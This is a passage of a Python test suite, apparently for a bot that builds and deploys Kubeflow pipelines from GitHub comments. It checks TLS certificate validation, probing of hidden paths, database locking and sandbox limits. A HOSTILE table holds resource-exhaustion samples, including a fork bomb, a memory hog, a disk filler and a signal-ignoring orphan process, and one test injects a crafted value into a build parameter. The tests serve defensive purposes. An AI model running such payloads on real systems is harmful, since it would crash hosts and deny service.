    ann.comments(f"/build_run --param label={INTERNAL[0].format(port=trap)}")
    assert bot.ends() == "rocket"
    assert Trap.caught == []


def certificate(names: str, issuer=None, days: int = 3):
    """(certificate, key, PEM of both): valid for `names` (an address), until `days` from yesterday on; signed by itself,
    or by `issuer`, a result of this function."""
    import ipaddress

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, f"{names} {uuid.uuid4()}")])
    begin = datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(days=2)
    made = x509.CertificateBuilder().subject_name(name).issuer_name(issuer[0].subject if issuer else name) \
        .public_key(key.public_key()).serial_number(x509.random_serial_number()) \
        .not_valid_before(begin).not_valid_after(begin + datetime.timedelta(days=1 + days)) \
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address(names))]), False) \
        .add_extension(x509.BasicConstraints(ca=issuer is None, path_length=None), True) \
        .sign(issuer[1] if issuer else key, hashes.SHA256())
    pem = made.public_bytes(serialization.Encoding.PEM) + key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    return made, key, pem


def check_against(bot, tmp_path, pem: bytes, ca: bytes) -> tuple[int, str]:
    """--check-config with GitHub and Kubeflow behind a server of this certificate; exit code and what it says."""
    (tmp_path / "server.pem").write_bytes(pem)
    (tmp_path / "ca.pem").write_bytes(ca)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(tmp_path / "server.pem")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Trap)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    server.handle_error = lambda *args: None
    threading.Thread(target=server.serve_forever, daemon=True).start()
    Trap.caught.clear()
    try:
        url = f"https://127.0.0.1:{server.server_address[1]}"

        def change(config):
            config["github"].update(api_url=url + "/api/v3", web_url=url, ca_file=str(tmp_path / "ca.pem"))
            config["clusters"][0].update(kfp_url=url, kfp_ca_file=str(tmp_path / "ca.pem"))
        bot.configure(change)
        done = subprocess.run([str(harness.daemon_path()), "--config", str(bot.config_file), "--check-config"],
                              capture_output=True, text=True, timeout=60)
        return done.returncode, done.stdout
    finally:
        server.shutdown()
        server.server_close()


def test_64_tls_downgrade(scene, bot, tmp_path):
    """No request is sent to GitHub or Kubeflow if the certificate is nobody's, is too old, or is another host's; with
    a good one of the same authority there is."""
    ours = certificate("127.0.0.1")
    good, other = certificate("127.0.0.1", ours), certificate("127.0.0.1")
    for what, pem in (("self-signed", other[2]), ("of another authority", certificate("127.0.0.1", other)[2]),
                      ("expired", certificate("127.0.0.1", ours, days=0)[2]), ("wrong host", certificate("192.0.2.1", ours)[2])):
        code, said = check_against(bot, tmp_path, pem, ours[2])
        assert code == 78 and said.count("FAIL") >= 2 and "certificate" in said.lower(), f"{what}:\n{said}"
        assert Trap.caught == [], what
    said = check_against(bot, tmp_path, good[2], ours[2])[1]
    assert len(Trap.caught) >= 2, said


def test_67_anonymous_scrape(scene, bot, ann):
    ann.comments("/build")
    assert bot.ends() == "rocket"
    for path in ("/metrics", "/healthz", "/readyz", "/", "/webhook", "/status", "/api", "/.git/config"):
        text = bot.get(path)[1]
        for word in ("lab", "iris", "ann", "kfopsd/", "0.1.0", "sqlite", "microhttpd"):
            assert word not in text, f"{word} is told at {path}"


# --- availability ---


def test_69_a_database_that_is_locked(scene, bot, ann):
    """503, so GitHub counts the delivery as failed and the bot fetches it later; never 202 without a row."""
    scene.expects_log("batch_failed|store_waits|claim|meta_failed|wake_failed|report_unstored|not taking")
    door = Door(scene)
    other = sqlite3.connect(bot.state_dir / "kfops.db", isolation_level=None)
    other.execute("BEGIN IMMEDIATE")
    try:
        comment = ann.comments("/build")
        assert door.send(door.comment("/status")) == 503
    finally:
        other.execute("ROLLBACK")
        other.close()
    assert bot.ends(to=comment, patience=60) == "rocket"
    scene.webhooks_are_idle()


HOSTILE = {
    "an endless loop": ("compile.timeout", "while True: pass\n"),
    "deaf to SIGTERM": ("compile.timeout", "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(100)\n"),
    "a fork bomb": ("", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"),
    "endless output": ("", "while True: print('x' * 100000)\n"),
    "a file without end": ("", "f = open('/tmp/x', 'wb')\nwhile True: f.write(b'x' * 1000000)\n"),
    "all memory": ("", "x = []\nwhile True: x.append(bytearray(50_000_000))\n"),
    "left behind": ("compile.timeout", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)\nwhile True: pass\n"),
}


@pytest.mark.scene(config={"compile": {"timeout": "2s", "memory": "300MiB"}})
def test_72_hostile_compile(scene, bot, ann):
    for name, (code, source) in HOSTILE.items():
        ann.pushes(texts.python("from kfp import dsl\n" + source, pipeline_function_name="x"))
        ann.comments("/build")
        assert bot.ends(patience=60) == "-1", name
        said = bot.answer("`compile.")
        assert f"`{code}" in said or not code, f"{name}:\n{said}"
        assert len(said.encode()) < 65536
    ann.pushes(texts.settings())
    ann.comments("/build")
    assert bot.ends() == "rocket"  # the next job is not concerned
    left = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert str(bot.state_dir) not in left.replace(str(bot.config_file), ""), "a process was left behind"


def test_75_comments_from_the_future(scene, bot, ann):
    door = Door(scene)
    for minutes in (-4, -60):
        payload = scene.comment_payload(ann, "/build --no-cache", age_minutes=minutes)
        assert door.send(payload) == 202
        assert bot.ends() in ("rocket", "confused")
    assert len(bot.jobs()) == 2 and not bot.unfinished()


# --- rows that are played elsewhere ---

ELSEWHERE = {
    7: "test_operate:test_the_webhook_secret_is_changed_without_a_gap",
    19: "test_who_may:test_readers_may_look_but_change_nothing",
    20: "test_who_may:test_readers_may_look_but_change_nothing",  # on a pull request of this repository
    21: "test_who_may:test_the_payloads_word_for_it_is_not_trusted",
    22: "test_who_may:test_a_right_that_is_lost_in_line",
    23: "test_who_may:test_permission_that_cannot_be_asked_for_too_long_is_no_permission",
    25: "test_who_may:test_a_login_that_somebody_else_has_now",
    26: "test_who_may:test_bots_and_apps_are_not_listened_to",
    27: "test_who_may:test_edited_and_deleted_comments_start_nothing",
    28: "test_pull_requests:test_closed_and_merged_pull_requests",
    31: "test_deploy_lines:test_the_base_moves_while_one_stands_in_line",
    36: "test_who_may:test_bots_and_apps_are_not_listened_to",
    37: "test_pull_requests:test_a_push_between_comment_and_handling_is_not_what_was_meant",
    38: "test_commit_deploy:test_a_backdated_commit",
    39: "test_pull_requests:test_a_push_in_mid_job_changes_nothing",
    40: "test_pull_requests:test_a_force_push_away_from_the_commit",
    41: "test_pull_requests:test_a_sha_must_be_the_head",
    42: "test_pull_requests:test_github_still_shows_the_old_head",
    44: "test_runs:test_versions_that_are_not_there_or_not_ours",
    45: "test_deploy:test_the_store_of_models_is_looked_at_first",
    46: "test_deploy_races:test_two_deployments_one_after_the_other",
    47: "test_jobs:test_cancel_stops_a_run",
    57: "test_lines:test_words_that_are_no_commands_stay_unanswered",
    58: "test_lines:test_what_is_not_understood_is_answered_and_nothing_runs",
    68: "test_build_run:test_kill_9_in_the_middle_changes_nothing_in_the_end",
    70: "test_github:test_every_write_to_github_is_there_once",
    71: "test_github:test_missed_webhooks_come_in_their_order",
    73: "test_deploy:test_a_model_that_does_not_work_stays_at_0",
    74: "test_kubeflow:test_every_write_to_kubeflow_happens_once",
    76: "test_operate:test_a_large_answer_is_cut_and_stays_markdown",
}
DEPLOYING = {  # the same rows once more, where a deployment meets them in another way than a run
    37: "test_deploy_gates:test_a_push_between_the_comment_and_its_arrival",
    39: "test_deploy_lines:test_the_place_in_line_moves_up_when_one_leaves",
    40: "test_deploy_races:test_the_merge_is_refused_after_all",
    44: "test_deploy_gates:test_runs_and_their_models",
    46: "test_deploy_lines:test_locks_of_people",
    47: "test_deploy_races:test_stopped_and_changed_while_it_is_under_way",
    70: "test_deploy_label:test_the_label_moves_though_every_write_has_to_wait",
    73: "test_deploy:test_answers_that_are_none",
    74: "test_deploy_races:test_a_cluster_that_answers_badly_is_changed_once",
}
NOT_BUILT = {  # what these rows attack is not there: nothing answers, and no such command or file is read
    "policy files and approvals": {24, 29, 30, 32, 33, 34, 35, 43, 60},
    "active content in a dashboard": {54},
}
ROWS = set(range(1, 77))


def test_every_row_is_played_or_has_nothing_to_attack():
    here = {int(number) for name in globals() if re.match(r"test_\d", name) for number in re.findall(r"\d+", name)}
    for row, place in [*ELSEWHERE.items(), *DEPLOYING.items()]:
        module, name = place.split(":")
        assert callable(getattr(importlib.import_module(module), name, None)), row
    idle = set().union(*NOT_BUILT.values())
    assert here & ROWS | set(ELSEWHERE) | idle == ROWS
    assert not idle & (here | set(ELSEWHERE))


@pytest.mark.parametrize("path", ["/setup", "/setup/callback?code=x&state=y", "/login", "/dashboard", "/jobs/1", "/api/jobs"])
def test_65_66_there_are_no_such_pages(door, nothing_happens, path):
    assert door.scene.bot.get(path)[0] == 404
